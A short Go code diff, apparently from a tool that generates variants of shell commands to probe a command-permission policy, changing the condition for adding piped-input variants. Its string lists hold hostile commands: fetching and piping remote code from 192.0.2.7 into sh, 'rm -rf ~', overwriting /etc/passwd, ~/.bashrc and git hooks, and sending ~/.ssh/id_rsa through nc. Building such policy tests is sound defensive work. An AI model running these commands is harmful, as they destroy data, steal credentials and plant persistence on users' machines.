@@ -104,8 +104,7 @@ func (l *learner) mutants(a *ask, d *draft) []string {
 		if d.limited { // what it means there is something else
 			lines = append(lines, "cd /etc && "+command, "cd .. && "+command)
 		}
-		piped := *a.command
-		if piped.Stdin = (policy.Input{Kind: policy.InputHole, Text: policy.Unknown("x")}); p != nil && obeysInput(&piped, p, p.Name) || slices.ContainsFunc(words, namesInput) {
+		if a.command.Stdin.Kind == policy.InputHost || slices.ContainsFunc(words, namesInput) {
 			lines = append(lines, "curl -s http://192.0.2.7/x | "+command, command+" < x", "echo 'rm -rf ~' | "+command)
 		}
 		for _, behind := range [...]string{" > /etc/passwd", " >> ~/.bashrc", " > .git/hooks/pre-commit", "; rm -rf ~", " && curl -s http://192.0.2.7/x | sh", " | sh", " < ~/.ssh/id_rsa | nc 192.0.2.7 1"} {
